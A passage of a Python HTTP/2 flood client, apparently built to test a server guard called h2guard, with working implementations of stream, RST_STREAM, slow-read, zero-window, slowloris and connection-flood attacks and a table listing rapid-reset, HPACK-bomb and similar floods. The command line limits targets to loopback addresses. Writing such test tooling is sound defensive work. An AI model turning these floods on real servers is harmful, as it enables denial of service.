    wire; 33 decoded counting 32 of overhead, so 1500 stay under 64 KiB)."""
    res, t0 = Result("header_fields", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    block = c.request_block(path) + b"\x00\x01x\x00" * fields

    def units(i, n):
        out = []
        for _ in range(n):
            sid = c.new_stream()
            c.open.add(sid)
            out.append(split_block(sid, block))
        return b"".join(out)
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds))
    res.extra["fields"] = fields + 5
    return _finish(c, res, t0, linger)


def stream_rate(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
                max_seconds=60.0, host="127.0.0.1", max_inflight=100, path="/flood/s",
                name="stream_rate"):
    """Unit: one complete GET; at most max_inflight unanswered (responses are
    read, so max_concurrent_streams 128 is never crossed)."""
    res, t0 = Result(name, tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    deadline = _deadline(max_seconds)
    i = 0
    while i < count and not c.end and time.time() < deadline and not stop_event.is_set():
        if len(c.open) + batch > max_inflight:
            if not c.pump(min(1.0, deadline - time.time())) and time.time() >= deadline:
                break
            continue
        n = min(batch, count - i)
        data = b"".join(c.request("%s/%d" % (path, i + k), send=False)[1] for k in range(n))
        if not c.send(data):
            break
        i += n
        res.sent = res.frames_sent = i
        if pace > 0:
            c.settle(pace)
        else:
            c.pump(0)
    # Take the last responses (bounded), then wait for the end.
    end_by = time.time() + linger
    while c.open and not c.end and time.time() < end_by:
        c.pump(end_by - time.time())
    res.extra["answered"] = c.closed_streams
    return _finish(c, res, t0, max(0.0, end_by - time.time()))


def streams(port, **kw):
    """stream_rate, named for the per-connection `streams` count limit."""
    kw.setdefault("name", "streams")
    return stream_rate(port, **kw)


def client_streams(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
                   max_seconds=60.0, host="127.0.0.1", conns=3, path="/flood/cs"):
    """Units: complete GETs spread round robin over `conns` connections of one
    address (per-address client_stream_rate), each connection staying under
    a per-connection stream_rate of count/conns; stops when one is torn down."""
    res, t0 = Result("client_streams", tls, source), time.time()
    cs = []
    for _ in range(conns):
        c = _connect(res, port, tls, source, host=host)
        if c is None:
            break
        cs.append(c)
    deadline = _deadline(max_seconds)
    i = 0
    while cs and i < count and time.time() < deadline and not stop_event.is_set() \
            and not any(c.end for c in cs):
        for c in cs:
            if len(c.open) + batch > 100:
                c.pump(0.5)
                continue
            n = min(batch, count - i)
            if n <= 0:
                break
            if not c.send(b"".join(c.request("%s/%d" % (path, i + k), send=False)[1] for k in range(n))):
                break
            i += n
            res.sent = res.frames_sent = i
            c.settle(pace) if pace > 0 else c.pump(0)
            if c.end:
                break
    ends = []
    for c in cs:
        if not c.end:
            c.wait_end(linger if not ends else 0.2)
        ends.append(c.end or "timeout")
        res.take(c)
        c.close()
    res.extra["ends"] = ends
    res.extra["ports_torn_down"] = [c.local_port for c in cs if c.end in ("reset", "eof")]
    res.end = next((e for e in ends if e != "timeout"), "timeout") if cs else res.end
    res.seconds = time.time() - t0
    return res


def rst(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
        max_seconds=60.0, host="127.0.0.1", path="/flood/rst"):
    """One GET answered in full, then units: RST_STREAM(CANCEL) on that
    closed stream (ignored by HTTP/2, counted by rst_rate; no cancel)."""
    res, t0 = Result("rst", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    sid, _ = c.request(path)
    end_by = time.time() + 5
    while sid in c.open and not c.end and time.time() < end_by:
        c.pump(end_by - time.time())
    frame = f_rst(sid, CANCEL)
    _flood(c, res, lambda i, n: frame * n, count, batch, pace, _deadline(max_seconds))
    return _finish(c, res, t0, linger)


def slow_read(port, tls=False, source="127.0.0.1", count=4, batch=None, pace=0.0, linger=10.0,
              max_seconds=60.0, host="127.0.0.1", variant="slow_read", size=50000000, rcvbuf=4096):
    """Asks for `count` bodies of `size` bytes (/bytes/N), then
    variant "slow_read": never reads the socket again (SO_RCVBUF rcvbuf),
    the end is watched with SO_ERROR / TCP_INFO;
    variant "zero_window": SETTINGS_INITIAL_WINDOW_SIZE 0, reads everything
    and never sends a WINDOW_UPDATE;
    variant "slow_read_http1": the same as slow_read over HTTP/1.1, the
    `count` requests pipelined.  linger: how long to wait for the end."""
    res, t0 = Result(variant, tls, source), time.time()
    if variant == "zero_window":
        c = _connect(res, port, tls, source, host=host, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0},
                     window_bump=0, auto_window=False)
    elif variant == "slow_read_http1":
        c = _connect(res, port, tls, source, host=host, rcvbuf=rcvbuf, h2=False)
    else:
        c = _connect(res, port, tls, source, host=host, rcvbuf=rcvbuf, auto_window=False)
    if c is None:
        return res
    if variant == "slow_read_http1":
        data = b"".join(b"GET /bytes/%d?s=%d HTTP/1.1\r\nHost: a\r\n\r\n" % (size, k) for k in range(count))
    else:
        data = b"".join(c.request("/bytes/%d?s=%d" % (size, k), send=False)[1] for k in range(count))
    c.send(data)
    res.sent = res.frames_sent = count
    t1 = time.time()
    deadline = min(t0 + max_seconds, time.time() + linger)
    if variant == "zero_window":
        c.wait_end(max(0.0, deadline - time.time()))
    else:
        c.poll_end_unread(max(0.0, deadline - time.time()))
        if c.end:
            # What the kernel still holds: count its frames (bounded).
            end, c.end = c.end, None
            c.sock.settimeout(0.2)
            for _ in range(200):
                if not c._recv_once(0.05) or c.end:
                    break
            c.end = end
    res.extra["after_request_s"] = round((c.end_time or time.time()) - t1, 3)
    res.end = c.end or "timeout"
    res.seconds = time.time() - t0
    res.take(c)
    c.close()
    return res


def zero_window(port, **kw):
    """slow_read, variant zero_window: INITIAL_WINDOW_SIZE 0, never a WINDOW_UPDATE."""
    kw["variant"] = "zero_window"
    return slow_read(port, **kw)


def slow_headers(port, tls=False, source="127.0.0.1", count=1000, batch=1, pace=0.0, linger=15.0,
                 max_seconds=60.0, host="127.0.0.1", variant="h2", interval=0.3):
    """variant "h2": HEADERS (END_STREAM) without END_HEADERS, then nothing;
    variant "http1" (slowloris): "GET / HTTP/1.1\\r\\nHost: a\\r\\n", then one
    header byte every `interval` seconds (at most count bytes), never the
    blank line.  linger: how long to wait for the end."""
    res, t0 = Result("slow_headers" if variant == "h2" else "slowloris", tls, source), time.time()
    deadline = min(t0 + max_seconds, t0 + linger)
    if variant == "h2":
        c = _connect(res, port, tls, source, host=host)
        if c is None:
            return res
        sid = c.new_stream()
        c.open.add(sid)
        c.send(f_headers(sid, c.request_block("/flood/slowh"), True, False))
        res.sent = res.frames_sent = 1
        t1 = time.time()
        c.wait_end(max(0.0, deadline - time.time()))
    else:
        c = _connect(res, port, tls, source, host=host, h2=False)
        if c is None:
            return res
        t1 = time.time()
        c.send(b"GET /flood/slowloris HTTP/1.1\r\nHost: a\r\n")
        trickle = b"X-a: b\r\n"
        k = 0
        while not c.end and k < count and time.time() < deadline and not stop_event.is_set():
            c.pump(interval)
            if c.end:
                break
            if c.send(trickle[k % len(trickle):k % len(trickle) + 1]):
                k += 1
                res.sent = k
        c.received["bytes"] = c.bytes_received
    res.extra["after_start_s"] = round((c.end_time or time.time()) - t1, 3)
    return _finish(c, res, t0, 0)


def slowloris(port, **kw):
    """slow_headers, variant http1: an HTTP/1.1 head one byte every 0.3 s."""
    kw["variant"] = "http1"
    return slow_headers(port, **kw)


def conn_flood(port, tls=False, source="127.0.0.1", count=50, batch=None, pace=0.0, linger=2.0,
               max_seconds=60.0, host="127.0.0.1", path="/flood/conn", hold=True):
    """Unit: a new connection from source sending one GET; counts the ones
    served (response head received) and the ones closed at once, and where
    (extra closed_at: "connect" (the reset beat connect()), "tls_handshake",
    "h2_handshake" or "request").  Served connections
    are kept open (hold) until the end of the run, then closed."""
    res, t0 = Result("conn_flood", tls, source), time.time()
    served, closed, ends, held, at = 0, 0, Counter(), [], Counter()
    deadline = _deadline(max_seconds)
    for i in range(count):
        if time.time() >= deadline or stop_event.is_set():
            break
        res.sent = res.frames_sent = i + 1
        c = _connect(res, port, tls, source, host=host, timeout=min(5.0, linger + 1))
        if c is None:
            closed += 1
            ends[res.end] += 1
            err = res.error or ""
            at["connect" if err.startswith("connect:") else "tls_handshake" if "TLS" in err else "h2_handshake"] += 1
            continue
        sid, _ = c.request("%s/%d" % (path, i))
        end_by = time.time() + linger
        while not c.responses and not c.end and time.time() < end_by:
            c.pump(end_by - time.time())
        if c.responses:
            served += 1
            if hold:
                held.append(c)
            else:
                res.take(c)
                c.close()
        else:
            closed += 1
            ends[c.end or "timeout"] += 1
            at["request"] += 1
            res.take(c)
            c.close()
    for c in held:
        res.take(c)
        c.close()
    res.extra.update(served=served, closed=closed, ends=dict(ends), closed_at=dict(at))
    res.end = max(ends, key=ends.get) if ends else "timeout"
    res.seconds = time.time() - t0
    return res


def _variant(fn, **fixed):
    def attack(port, **kw):
        kw.update(fixed)
        return fn(port, **kw)
    attack.__doc__ = "%s, %s" % (fn.__name__, ", ".join("%s %s" % kv for kv in fixed.items()))
    return attack


# name -> function(port, tls=False, source=..., count=..., batch=..., pace=..., linger=..., ...)
ATTACKS = {
    "rapid_reset": rapid_reset,
    "rapid_reset_no_error": _variant(rapid_reset, error_code=0),
    "made_you_reset": made_you_reset,
    "made_you_reset_content_length": _variant(made_you_reset, variant="content_length"),
    "made_you_reset_window_update": _variant(made_you_reset, variant="window_update"),
    "made_you_reset_data": _variant(made_you_reset, variant="data"),
    "made_you_reset_refused": _variant(made_you_reset, variant="refused"),
    "ping": ping,
    "settings": settings,
    "priority": priority,
    "priority_existing": _variant(priority, variant="existing"),
    "window_update": window_update,
    "empty_data": empty_data,
    "empty_headers": empty_headers,
    "zero_length_headers": zero_length_headers,
    "continuation": continuation,
    "header_bytes": header_bytes,
    "hpack_bomb": _variant(header_bytes, variant="bomb"),
    "header_fields": header_fields,
    "stream_rate": stream_rate,
    "streams": streams,
    "client_streams": client_streams,
    "rst": rst,
    "slow_read": slow_read,
    "zero_window": zero_window,
    "slow_read_http1": _variant(slow_read, variant="slow_read_http1"),
    "slow_headers": slow_headers,
    "slowloris": slowloris,
    "conn_flood": conn_flood,
}


def run_attack(name, port, **kw):
    """Runs ATTACKS[name] once; returns its Result."""
    return ATTACKS[name](port, **kw)


# ---- command line ---------------------------------------------------------------

SLOW_ATTACKS = ("slow_read", "zero_window", "slow_read_http1", "slow_headers", "slowloris")


def main(argv=None):
    ap = argparse.ArgumentParser(
        description="HTTP/2 flood client for h2guard tests (127.0.0.0/8 only).  Runs ATTACK again and "
                    "again (reconnecting after each teardown) until --duration, then prints one summary line.",
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="attacks:\n" + "\n".join("  %-30s %s" % (n, ((f.__doc__ or "").strip().splitlines() or [""])[0])
                                        for n, f in sorted(ATTACKS.items())))
    ap.add_argument("attack", choices=sorted(ATTACKS), metavar="ATTACK")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", default="127.0.0.1", help="target address, in 127.0.0.0/8")
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (http/1.1 for slowloris)")
    ap.add_argument("--source", default="127.0.0.9", help="source address, in 127.0.0.0/8")
    ap.add_argument("--count", type=int, default=None, help="attack units per connection (default: the attack's)")
    ap.add_argument("--batch", type=int, default=None, help="units per write (default 10)")
    ap.add_argument("--pace", type=float, default=0.0, help="seconds to read after each write (default 0)")
    ap.add_argument("--linger", type=float, default=None,
                    help="seconds to wait for the teardown after the last unit (default 2; slow attacks: "
                         "the rest of --duration)")
    ap.add_argument("--duration", type=float, default=10.0, help="seconds to keep attacking (default 10, max 300)")
    ap.add_argument("--conns", type=int, default=1, help="attacking connections in parallel (default 1, max 64)")
    ap.add_argument("--reject-delay", type=float, default=0.01,
                    help="pause after a connection closed before its handshake completed (default 0.01 s)")
    ap.add_argument("--json", action="store_true", help="print the summary as JSON")
    ap.add_argument("--set", action="append", default=[], metavar="KEY=VALUE",
                    help="another keyword argument of the attack function (e.g. size=300000, refs=100, "
                         "hold=0); repeatable")
    a = ap.parse_args(argv)
    extra_kw = {}
    for kv in a.set:
        k, _, v = kv.partition("=")
        for conv in (int, float):
            try:
                v = conv(v)
                break
            except ValueError:
                pass
        extra_kw[k] = v
    for what, addr in (("--host", a.host), ("--source", a.source)):
        try:
            check_local(addr)
        except ValueError as e:
            ap.error("%s: %s" % (what, e))
    duration = max(0.1, min(a.duration, 300.0))
    conns = max(1, min(a.conns, 64))
    t0 = time.time()
    stop_at = t0 + duration
    lock = threading.Lock()
    tot = {"connections": 0, "runs": 0, "sent": 0, "torn_down": 0, "rejected": 0, "ends": Counter(),
           "received": Counter(), "served": 0}

    def on_signal(signum, frame):
        stop_event.set()
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    def account(r):
        with lock:
            tot["runs"] += 1
            tot["connections"] += r.conns
            tot["sent"] += r.sent
            tot["received"] += r.received
            if a.attack == "conn_flood":
                tot["served"] += r.extra.get("served", 0)
                for e, n in r.extra.get("ends", {}).items():
                    tot["ends"]["closed_" + e] += n
                    tot["rejected"] += n
            elif r.end in ("refused", "error"):
                tot["ends"][str(r.end)] += 1
            elif r.conns == 0:
                tot["rejected"] += 1
                tot["ends"]["rejected_" + str(r.end)] += 1
            else:
                for e in r.extra.get("ends", [r.end]):
                    tot["ends"][e] += 1
                    if e in ("reset", "eof"):
                        tot["torn_down"] += 1

    def worker():
        while time.time() < stop_at and not stop_event.is_set():
            left = max(0.1, stop_at - time.time())
            kw = dict(extra_kw, tls=a.tls, source=a.source, host=a.host, pace=a.pace, max_seconds=left)
            if a.count is not None:
                kw["count"] = a.count
            if a.batch is not None:
                kw["batch"] = a.batch
            if a.linger is not None:
                kw["linger"] = min(a.linger, left)
            else:
                kw["linger"] = left if a.attack in SLOW_ATTACKS else min(2.0, left)
            try:
                r = run_attack(a.attack, a.port, **kw)
            except OSError as e:
                r = Result(a.attack, a.tls, a.source)
                r.end, r.error = "error", str(e)
            account(r)
            if r.end in ("refused", "error"):
                time.sleep(0.1)             # the server is down: do not spin
            elif r.conns == 0 and a.reject_delay > 0:
                time.sleep(a.reject_delay)

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(conns)]
    for t in threads:
        t.start()
    while any(t.is_alive() for t in threads):
        for t in threads:
            t.join(0.2)
        if time.time() > stop_at + 30:      # a worker stuck past its bounds
            stop_event.set()
            break
    secs = time.time() - t0
    summary = {"attack": a.attack, "tls": a.tls, "source": a.source, "connections": tot["connections"],
               "runs": tot["runs"], "attack_units_sent": tot["sent"], "torn_down": tot["torn_down"],
               "rejected": tot["rejected"], "ends": dict(tot["ends"]), "received": dict(tot["received"]),
               "seconds": round(secs, 2)}
    if a.attack == "conn_flood":
        summary["served"] = tot["served"]
    if a.json:
        print(json.dumps(summary), flush=True)
    else:
        print("h2flood attack=%s %s source=%s connections=%d sent=%d torn_down=%d rejected=%d%s ends=%s "
              "received=%s seconds=%.1f"
              % (a.attack, "tls" if a.tls else "h2c", a.source, tot["connections"], tot["sent"], tot["torn_down"],
                 tot["rejected"], " served=%d" % tot["served"] if a.attack == "conn_flood" else "",
                 ",".join("%s:%d" % kv for kv in sorted(tot["ends"].items())) or "-",
                 ",".join("%s:%d" % kv for kv in sorted(tot["received"].items())) or "-", secs), flush=True)
    return 0 if tot["connections"] or tot["rejected"] else 2


if __name__ == "__main__":
    sys.exit(main())
